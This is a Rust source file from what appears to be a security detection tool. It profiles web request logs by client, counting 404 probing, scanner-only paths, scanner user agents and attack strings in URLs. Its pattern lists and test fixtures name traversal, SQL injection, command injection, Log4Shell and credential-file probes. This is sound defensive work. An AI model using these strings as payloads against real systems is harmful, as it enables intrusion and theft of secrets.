//! Web requests by who made them: what was not there, what only scanners ask for, attacks in URLs, and what of it was answered.
//! What a URL is, is decided once for each text of a segment's dictionary, so ten million requests cost ten million look-ups.

use crate::DetectError;
use crate::table::{NONE, Names};
use aho_corasick::AhoCorasick;
use rustc_hash::{FxHashMap, FxHashSet};
use timberline_model::time::MINUTE;
use timberline_model::{BatchColumn, Ctx, EventStore, Filter, NO_TIME, TimeRange};

/// Width of the windows in which requests are counted, ns.
pub const WINDOW: i64 = 10 * MINUTE;
const MOST_URLS: usize = 5_000;
const MOST_SOURCES: usize = 1_000_000;

/// What a URL or a user agent tries, with the words that cards use.
pub const ATTACKS: [(&str, &str); 6] = [
    ("traversal", "reading files by ../"),
    ("injection", "SQL in the URL"),
    ("script", "script in the URL"),
    ("command", "commands in the URL"),
    ("lookup", "Log4Shell"),
    ("shell", "calling a web shell"),
];

/// Texts of attacks in a URL as it was sent or decoded once, in lower case, with the place in [`ATTACKS`].
const TEXTS: [(&str, u8); 70] = [
    ("../../", 0),
    ("..%2f..", 0),
    ("%2e%2e%2f", 0),
    ("%2e%2e/", 0),
    ("..%5c", 0),
    ("..\\..", 0),
    ("%252e%252e", 0),
    ("..%c0%af", 0),
    (".%2e/", 0),
    ("%%32%65", 0),
    ("/etc/passwd", 0),
    ("etc%2fpasswd", 0),
    ("/etc/shadow", 0),
    ("boot.ini", 0),
    ("win.ini", 0),
    ("php://filter", 0),
    ("php://input", 0),
    ("union select", 1),
    ("union+select", 1),
    ("union%20select", 1),
    ("union+all+select", 1),
    ("union%20all%20select", 1),
    ("union all select", 1),
    ("' or '1'='1", 1),
    ("%27%20or%20", 1),
    ("'+or+", 1),
    ("%27+or+", 1),
    ("' or 1=1", 1),
    ("or%201=1", 1),
    ("or+1=1", 1),
    ("and%201=1", 1),
    ("and+1=1", 1),
    ("sleep(", 1),
    ("sleep%28", 1),
    ("benchmark(", 1),
    ("waitfor+delay", 1),
    ("waitfor%20delay", 1),
    ("information_schema", 1),
    ("xp_cmdshell", 1),
    ("extractvalue(", 1),
    ("updatexml(", 1),
    ("order+by+1--", 1),
    ("order%20by%201--", 1),
    ("<script", 2),
    ("%3cscript", 2),
    ("%253cscript", 2),
    ("javascript:alert", 2),
    ("onerror=", 2),
    ("onload=alert", 2),
    ("%3csvg", 2),
    (";cat+/", 3),
    (";cat%20/", 3),
    ("|cat%20/", 3),
    ("%7ccat", 3),
    ("$(curl", 3),
    ("`wget", 3),
    (";wget+", 3),
    (";wget%20", 3),
    ("cd+/tmp;", 3),
    ("cd%20/tmp", 3),
    ("/bin/sh", 3),
    ("/bin/bash", 3),
    ("cmd.exe", 3),
    ("powershell+-", 3),
    ("() { :;}", 3),
    ("allow_url_include", 3),
    ("vendor/phpunit/phpunit/src/util/php/eval-stdin.php", 3),
    ("${jndi:", 4),
    ("%24%7bjndi", 4),
    ("${${", 4),
];

/// Paths that only scanners ask for.
const KNOWN: [&str; 44] = [
    "/.env",
    "/.git/config",
    "/.git/head",
    "/.svn/",
    "/.aws/credentials",
    "/.ssh/",
    "/.ds_store",
    "/.htpasswd",
    "/wp-config.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wlwmanifest.xml",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/mysqladmin",
    "/adminer",
    "/manager/html",
    "/jmx-console",
    "/web-console",
    "/invoker/",
    "/solr/admin",
    "/actuator",
    "/_ignition/execute-solution",
    "/boaform",
    "/setup.cgi",
    "/hnap1",
    "/gponform",
    "/cgi-bin/luci",
    "/cgi-bin/test",
    "/shell?",
    "/server-status",
    "/phpinfo",
    "/config.json",
    "/backup.sql",
    "/backup.zip",
    "/dump.sql",
    "/owa/auth",
    "/autodiscover",
    "/ecp/",
    "/telescope/requests",
    "/console/",
    "/struts",
    "/remote/login",
];

/// User agents of scanners, in lower case.
const AGENTS: [&str; 26] = [
    "nikto",
    "sqlmap",
    "nmap",
    "masscan",
    "zgrab",
    "wpscan",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "ffuf",
    "nuclei",
    "acunetix",
    "nessus",
    "openvas",
    "w3af",
    "arachni",
    "whatweb",
    "dirsearch",
    "wfuzz",
    "hydra",
    "jorgee",
    "zmeu",
    "morfeus",
    "skipfish",
    "netsparker",
    "burpcollaborator",
];

/// Bits of what a text is.
const KNOWN_PATH: u8 = 1 << 6;
const SCRIPT: u8 = 1 << 7;

/// What one address did.
#[derive(Default)]
pub struct Client {
    /// Requests.
    pub requests: u64,
    /// 403 and 404 among them.
    pub missing: u64,
    /// Its fullest window: (number of the window, requests that were not there).
    pub fullest: (i64, u64),
    window: (i64, u64),
    /// Different URLs that were not there.
    pub missing_urls: FxHashSet<u64>,
    /// Different paths that only scanners ask for.
    pub known: FxHashSet<u64>,
    /// Requests with an attack in them, by its kind.
    pub attacks: [u64; ATTACKS.len()],
    /// Of those, answered with a success.
    pub answered: u64,
    /// Requests with the agent of a scanner.
    pub agent: u64,
    /// First request, ns.
    pub first_ns: i64,
    /// Last request, ns.
    pub last_ns: i64,
    /// First and last request that tells of probing, ns.
    pub telling: Option<(i64, i64)>,
}

impl Client {
    /// All attacks.
    #[must_use]
    pub fn attacked(&self) -> u64 {
        self.attacks.iter().sum()
    }
}

/// Server errors and requests of a site, by window.
#[derive(Default)]
pub struct Site {
    /// By window: requests, and responses of 500 and more.
    pub windows: FxHashMap<i64, (u32, u32)>,
    /// All server errors.
    pub errors: u64,
}

/// A script that was run with success: who asked for it.
#[derive(Default)]
pub struct Script {
    /// Addresses, by how often; at most a few are kept.
    pub clients: FxHashMap<u32, (u64, i64, i64)>,
    /// How many requests.
    pub requests: u64,
    /// Whether there were more addresses than are kept.
    pub many: bool,
}

/// All requests.
#[derive(Default)]
pub struct Web {
    /// Addresses.
    pub sources: Names,
    /// What they did, at their number.
    pub clients: Vec<Client>,
    /// Sites: by domain or host, and which of the two.
    pub sites: Names,
    /// Their errors, at their number; whether the name is a `url.domain`.
    pub of_sites: Vec<(bool, Site)>,
    /// Paths of scripts.
    pub paths: Names,
    /// Who ran them, at their number.
    pub scripts: Vec<Script>,
    /// Requests looked at.
    pub seen: u64,
}

struct Tests {
    attacks: AhoCorasick,
    known: AhoCorasick,
    agents: AhoCorasick,
}

impl Tests {
    fn new() -> Option<Self> {
        Some(Self {
            attacks: AhoCorasick::builder().ascii_case_insensitive(true).build(TEXTS.map(|t| t.0)).ok()?,
            known: AhoCorasick::builder().ascii_case_insensitive(true).build(KNOWN).ok()?,
            agents: AhoCorasick::builder().ascii_case_insensitive(true).build(AGENTS).ok()?,
        })
    }

    /// A bit for each attack in a text.
    fn attacks(&self, text: &str) -> u8 {
        self.attacks
            .find_overlapping_iter(text)
            .filter_map(|m| TEXTS.get(m.pattern().as_usize()))
            .fold(0, |bits, t| bits | 1 << t.1)
    }

    fn url(&self, text: &str) -> u8 {
        let mut bits = self.attacks(text);
        if self.known.is_match(text) {
            bits |= KNOWN_PATH;
        }
        let path = text.split(['?', '#']).next().unwrap_or_default().to_ascii_lowercase();
        let script = [".php", ".jsp", ".jspx", ".asp", ".aspx", ".ashx", ".cgi", ".pl", ".cfm"];
        if script.iter().any(|e| path.ends_with(e)) {
            bits |= SCRIPT;
            let query = text.split_once('?').map(|q| q.1.to_ascii_lowercase()).unwrap_or_default();
            let calls = ["cmd=", "exec=", "command=", "c=whoami", "c=id", "shell=", "system="];
            if calls.iter().any(|c| query.starts_with(c) || query.contains(&format!("&{c}"))) {
                bits |= 1 << 5;
            }
        }
        bits
    }
}

/// The filter that makes a request to a server.
#[must_use]
pub fn filter() -> Filter {
    Filter::exists("source.ip").and(Filter::exists("http.response.status_code"))
}

fn status(column: Option<&BatchColumn>, row: usize) -> Option<i64> {
    match column? {
        BatchColumn::Int(values) => *values.get(row)?,
        column => column.text(row)?.parse().ok(),
    }
}

fn hash(text: &str) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut hasher = rustc_hash::FxHasher::default();
    text.hash(&mut hasher);
    hasher.finish()
}

impl Web {
    /// Gathers them from a store.
    ///
    /// # Errors
    /// See [`timberline_model::StoreError`].
    pub fn gather(events: &dyn EventStore, range: TimeRange, ctx: &Ctx<'_>) -> Result<Self, DetectError> {
        let mut web = Self::default();
        let Some(tests) = Tests::new() else { return Ok(web) };
        let fields = [
            "source.ip",
            "http.response.status_code",
            "url.original",
            "user_agent.original",
            "url.domain",
            "host.name",
        ];
        events.scan(range, &filter(), &fields, ctx, &mut |batch| {
            let rows = batch.ids.len();
            let source = web.sources.codes(batch.columns.first(), rows);
            let agents = lazily(batch.columns.get(3), rows, |t| {
                (u8::from(tests.agents.is_match(t)) | if tests.attacks(t) & (1 << 4) != 0 { 2 } else { 0 }, 0)
            });
            let urls = lazily(batch.columns.get(2), rows, |t| (tests.url(t), hash(t)));
            let named = !matches!(batch.columns.get(4), Some(BatchColumn::Missing) | None);
            let site = web.sites.codes(batch.columns.get(if named { 4 } else { 5 }), rows);
            web.clients.resize_with(web.sources.len().min(MOST_SOURCES), Client::default);
            web.of_sites.resize_with(web.sites.len().min(MOST_SOURCES), || (named, Site::default()));
            for (row, &time) in batch.times.iter().enumerate() {
                let at = |codes: &[u32]| codes.get(row).copied().unwrap_or(NONE);
                let Some(status) = status(batch.columns.get(1), row).filter(|_| time != NO_TIME) else {
                    continue;
                };
                web.seen += 1;
                let window = time.div_euclid(WINDOW);
                if let Some((_, site)) = web.of_sites.get_mut(at(&site) as usize) {
                    let slot = site.windows.entry(window).or_default();
                    slot.0 += 1;
                    if (500..600).contains(&status) {
                        slot.1 += 1;
                        site.errors += 1;
                    }
                }
                let who = at(&source);
                let Some(client) = web.clients.get_mut(who as usize) else { continue };
                let (what, url) = urls.get(row).copied().unwrap_or_default();
                let agent = agents.get(row).copied().unwrap_or_default().0;
                client.take(time, status, (what, url), agent);
                let ran = what & SCRIPT != 0 && (200..300).contains(&status);
                if ran && let Some(text) = batch.columns.get(2).and_then(|c| c.text(row)) {
                    let path = text.split(['?', '#']).next().unwrap_or_default();
                    if web.paths.len() < 200_000 {
                        let path = web.paths.intern(path);
                        if web.scripts.len() <= path as usize {
                            web.scripts.resize_with(path as usize + 1, Script::default);
                        }
                        if let Some(script) = web.scripts.get_mut(path as usize) {
                            script.requests += 1;
                            if script.clients.len() < 8 || script.clients.contains_key(&who) {
                                let slot = script.clients.entry(who).or_insert((0, time, time));
                                (slot.0, slot.1, slot.2) = (slot.0 + 1, slot.1.min(time), slot.2.max(time));
                            } else {
                                script.many = true;
                            }
                        }
                    }
                }
            }
            true
        })?;
        ctx.check()?;
        Ok(web)
    }
}

/// What `test` says of each row's text, asked once for each text.
fn lazily(column: Option<&BatchColumn>, rows: usize, test: impl Fn(&str) -> (u8, u64)) -> Vec<(u8, u64)> {
    let Some(BatchColumn::Text { dict, codes }) = column else { return vec![(0, 0); rows] };
    let mut known: Vec<Option<(u8, u64)>> = vec![None; dict.len()];
    codes
        .iter()
        .map(|code| match (known.get_mut(*code as usize), dict.get(*code as usize)) {
            (Some(slot), Some(text)) => *slot.get_or_insert_with(|| test(text)),
            _ => (0, 0),
        })
        .collect()
}

impl Client {
    fn take(&mut self, time: i64, status: i64, (what, url): (u8, u64), agent: u8) {
        if self.requests == 0 {
            (self.first_ns, self.last_ns) = (time, time);
        }
        self.requests += 1;
        self.first_ns = self.first_ns.min(time);
        self.last_ns = self.last_ns.max(time);
        let missing = matches!(status, 403 | 404);
        let attack = what & 0x3f;
        if missing {
            self.missing += 1;
            let window = time.div_euclid(WINDOW);
            if self.window.0 != window {
                self.window = (window, 0);
            }
            self.window.1 += 1;
            if self.window.1 > self.fullest.1 {
                self.fullest = self.window;
            }
            if self.missing_urls.len() < MOST_URLS {
                self.missing_urls.insert(url);
            }
        }
        if what & KNOWN_PATH != 0 && self.known.len() < 200 && (missing || status >= 400) {
            self.known.insert(url);
        }
        for (bit, n) in self.attacks.iter_mut().enumerate() {
            *n += u64::from(attack >> bit & 1);
        }
        if agent & 2 != 0 {
            self.attacks[4] += 1;
        }
        self.agent += u64::from(agent & 1);
        if attack != 0 && (200..300).contains(&status) {
            self.answered += 1;
        }
        if missing || attack != 0 || agent != 0 || what & KNOWN_PATH != 0 {
            let (first, last) = self.telling.unwrap_or((time, time));
            self.telling = Some((first.min(time), last.max(time)));
        }
    }
}

/// A filter for requests with one of the attacks of a kind in their URL; the same texts as are counted.
#[must_use]
pub fn attack_filter(kinds: &[usize]) -> Filter {
    use timberline_model::filter::Pattern;
    Filter::Or(
        TEXTS
            .iter()
            .filter(|t| kinds.contains(&usize::from(t.1)))
            .map(|t| Filter::Match { field: "url.original".into(), pattern: Pattern::containing(t.0) })
            .collect(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_are_told_apart() {
        let tests = Tests::new().unwrap();
        for (url, expect) in [
            ("/index.html?q=select+a+union", 0),
            ("/a/../../../etc/passwd", 1),
            ("/?id=1+UNION+SELECT+1,2--", 2),
            ("/?q=%3CScript%3E", 4),
            ("/?x=${jndi:ldap://192.0.2.1/a}", 16),
            ("/.env", KNOWN_PATH),
            ("/up/x.php?cmd=whoami", SCRIPT | 32),
            ("/shop.php?item=cmd=1", SCRIPT),
            ("/the/history/of/union-and-selection", 0),
        ] {
            assert_eq!(tests.url(url), expect, "{url}");
        }
    }
}
